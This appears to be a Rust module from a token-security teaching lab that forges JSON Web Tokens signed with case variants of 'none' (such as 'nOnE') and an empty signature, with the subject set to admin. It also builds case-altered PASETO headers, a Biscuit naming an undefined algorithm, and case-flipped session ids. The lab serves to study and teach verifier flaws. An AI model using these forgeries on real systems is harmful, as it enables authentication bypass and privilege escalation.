//! `alg: nOnE`: the word that a block list refuses, in other letters.
//!
//! The flawed assumption: refusing one spelling refuses the thing. Names of
//! algorithms are compared byte for byte (RFC 7515 §4.1.1); a verifier whose
//! block list does that, and whose dispatch ignores case, refuses `none` and
//! obeys `nOnE`. draft-ietf-oauth-rfc8725bis §2.11 describes the class; no CVE
//! of a library is known to this lab, and attack tools try the spellings all
//! the same.
//!
//! A PASETO has a header whose letters can be changed as well, so they are; the
//! algorithm of a Biscuit is a number, so one is tried that means nothing. The
//! id of a session is where the attack is felt most: a store whose collation
//! ignores case finds rows that nobody asked for.

use serde_json::Value;

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{self, Message, Value as Field};
use crate::card::AttackProfile;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme, Version};
use crate::stand_in::analogues;
use crate::weakness::Weakness;

pub(super) struct AlgNoneCase;

static PROFILE: AttackProfile = AttackProfile {
    id: "alg-none-case",
    title: "Unsecured token in other letters",
    assumption: "Refusing the word none refuses every token without a signature.",
    class: AttackClass::Algorithm,
    given: &[],
    isolated: false,
    breaks: &[Weakness::NoneBlockList],
    references: &[
        (
            "draft-ietf-oauth-rfc8725bis §2.11",
            "A block list that misses a spelling lets `nOnE` through.",
        ),
        (
            "RFC 8725 §3.1",
            "The caller says which algorithms are acceptable; the library uses no other.",
        ),
        ("RFC 7515 §4.1.1", "alg is a case-sensitive string."),
        (
            "PASETO, Version4, Verify step 3",
            "The header is compared as a whole and letter for letter.",
        ),
    ],
    lesson: include_str!("../../lessons/alg-none-case.md"),
};

/// What attack tools send.
const SPELLINGS: [&str; 4] = ["None", "NONE", "nOnE", "NoNe"];

impl Attack for AlgNoneCase {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match view.scheme() {
            Scheme::Jwt(_) => unsecured(view, notes),
            Scheme::Jwe(..) => {
                let mut forgeries = unsecured(view, notes)?;
                forgeries.push(five_parts(view, notes)?);
                Ok(forgeries)
            }
            Scheme::Paseto(version, purpose) => Err(CannotForge::Inexpressible {
                why: "a PASETO has no word for unsigned, in any letters".into(),
                tried: headers_in_other_letters(view, version, purpose, notes)?,
            }),
            Scheme::Biscuit => Err(CannotForge::Inexpressible {
                why: "a biscuit names algorithms by numbers, which have no upper case".into(),
                tried: unknown_algorithm(view, notes)?,
            }),
            Scheme::Session(_) => Err(CannotForge::Inexpressible {
                why: "the id of a session names no algorithm".into(),
                tried: ids_in_other_letters(view, notes),
            }),
        }
    }
}

fn unsecured(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    notes.step(
        "Rewrites the claims: the subject becomes admin.",
        mint::jwt_payload(view.wanted())?,
    );
    let mut forgeries = Vec::new();
    for spelling in SPELLINGS {
        let header = view.header_with_alg(spelling);
        notes.variant_step(
            spelling,
            format!("Writes {spelling:?} where the header named an algorithm, and leaves the signature out."),
            Value::Object(header.clone()).to_string(),
        );
        let token = mint::jws(&header, view.wanted(), &Signature::Empty)?;
        forgeries.push(Forgery::new(spelling, token));
    }
    Ok(forgeries)
}

/// A JWE whose header says in capitals that nothing is encrypted.
fn five_parts(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "NONE-five-parts";
    let header = r#"{"alg":"NONE","enc":"NONE"}"#;
    notes.variant_step(
        variant,
        "Writes \"NONE\" for both algorithms of a JWE, and the claims in the open where the ciphertext was.",
        header,
    );
    let payload = mint::jwt_payload(view.wanted())?;
    let (header, payload) = (mint::part(header), mint::part(payload));
    Ok(Forgery::new(variant, format!("{header}...{payload}.")))
}

/// Her honest token under headers that differ from the right one in case.
fn headers_in_other_letters(
    view: &AttackerView<'_>,
    version: Version,
    purpose: Purpose,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let Some(rest) = view.sample().splitn(3, '.').nth(2) else {
        return Err(CannotForge::Failed("the sample token has no body".into()));
    };
    let (version, purpose) = (version.name(), purpose.name());
    let (loud_version, loud_purpose) = (version.to_uppercase(), purpose.to_uppercase());
    Ok(analogues(
        notes,
        "the header is the only place with letters that a verifier could compare without regard to case",
        [
            (
                "version-in-capitals",
                "Writes the version of her honest token with a capital V.",
                format!("{loud_version}.{purpose}.{rest}"),
            ),
            (
                "purpose-in-capitals",
                "Writes the purpose of her honest token in capitals.",
                format!("{version}.{loud_purpose}.{rest}"),
            ),
            (
                "header-in-capitals",
                "Writes the whole header of her honest token in capitals.",
                format!("{loud_version}.{loud_purpose}.{rest}"),
            ),
        ],
    ))
}

/// A biscuit whose next key is of an algorithm that nobody has defined.
fn unknown_algorithm(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let relabelled = view
        .biscuit_by_own_key()?
        .changed_within(biscuit::AUTHORITY, |block| {
            let next_key = |key: Message| key.with(biscuit::ALGORITHM, Field::Number(7));
            block
                .clone()
                .changed_within(biscuit::NEXT_KEY, next_key)
                .unwrap_or(block)
        });
    let token = relabelled
        .ok_or_else(|| CannotForge::Failed("her biscuit has no authority block".into()))?
        .to_token();
    Ok(analogues(
        notes,
        "a number that no algorithm has takes the place of a word that no list has",
        [(
            "unknown-algorithm",
            "Signs a biscuit, in which the subject is admin, and names an algorithm that does not exist.",
            token,
        )],
    ))
}

/// Her own id with the case of its letters turned round, and a word.
fn ids_in_other_letters(view: &AttackerView<'_>, notes: &mut Notebook) -> Vec<Forgery> {
    let turned = view.sample().chars().map(|letter| {
        if letter.is_ascii_lowercase() {
            letter.to_ascii_uppercase()
        } else {
            letter.to_ascii_lowercase()
        }
    });
    analogues(
        notes,
        "the id is the only text there is, so its letters are changed",
        [
            (
                "id-in-other-letters",
                "Sends her own id with small letters for capitals and capitals for small ones.",
                turned.collect(),
            ),
            ("NONE-id", "Sends the word NONE for an id.", "NONE".into()),
        ],
    )
}
